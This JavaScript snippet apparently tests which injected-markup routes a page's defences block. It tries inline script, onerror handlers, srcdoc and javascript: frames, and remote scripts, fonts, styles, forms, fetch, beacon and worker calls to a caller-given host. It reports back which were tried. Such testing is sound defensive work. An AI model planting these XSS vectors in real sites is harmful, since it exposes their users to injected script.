// Puts markup into the page as if it had got past the server, and answers which ways were tried.
// Whatever runs or asks for something calls by the number of its way: NUMBER + its place in the list.
(async (away, first) => {
  const html = 'http://www.w3.org/1999/xhtml';
  const root = document.body ?? document.documentElement;
  const put = (tag, set) => {
    const element = document.createElementNS(html, tag);
    set(element);
    root.append(element);
  };
  const at = (number, ending = '') => `${away}/${number}${ending}`;
  const ways = {
    'a script': n => put('script', e => { e.textContent = `xss(${n})`; }),
    'a script from elsewhere': n => put('script', e => { e.src = at(n, '.js'); }),
    'an event handler': n => put('img', e => { e.setAttribute('onerror', `xss(${n})`); e.src = '/nowhere'; }),
    'a picture from elsewhere': n => put('img', e => { e.src = at(n, '.png'); }),
    'a frame from elsewhere': n => put('iframe', e => { e.src = at(n); }),
    'a frame with a script': n => put('iframe', e => { e.srcdoc = `<script>parent.xss(${n})</script>`; }),
    'a frame of a script': n => put('iframe', e => { e.src = `javascript:parent.xss(${n})`; }),
    'an object from elsewhere': n => put('object', e => { e.data = at(n); }),
    'a style sheet from elsewhere': n => put('link', e => { e.rel = 'stylesheet'; e.href = at(n, '.css'); }),
    'a style of its own': n => put('style', e => { e.textContent = `*{background:url(${at(n, '.png')})}`; }),
    'a font from elsewhere': n => put('style', e => {
      e.textContent = `@font-face{font-family:x;src:url(${at(n)})} *{font-family:x}`;
    }),
    'a film from elsewhere': n => put('video', e => { e.src = at(n); }),
    'a form': n => put('form', e => { e.action = at(n); e.method = 'post'; e.submit?.(); }),
    'a connection': n => { fetch(at(n), {mode: 'no-cors'}).catch(() => {}); },
    'a beacon': n => { navigator.sendBeacon?.(at(n)); },
    'a worker': n => { try { new Worker(URL.createObjectURL(new Blob([`fetch('${at(n)}')`]))); } catch {} },
    'a base': n => {
      put('base', e => { e.href = away + '/'; });
      put('img', e => { e.src = String(n); });
    }
  };
  Object.values(ways).forEach((way, index) => { try { way(first + index); } catch {} });
  await new Promise(done => setTimeout(done, 250));
  return JSON.stringify(Object.keys(ways));
})
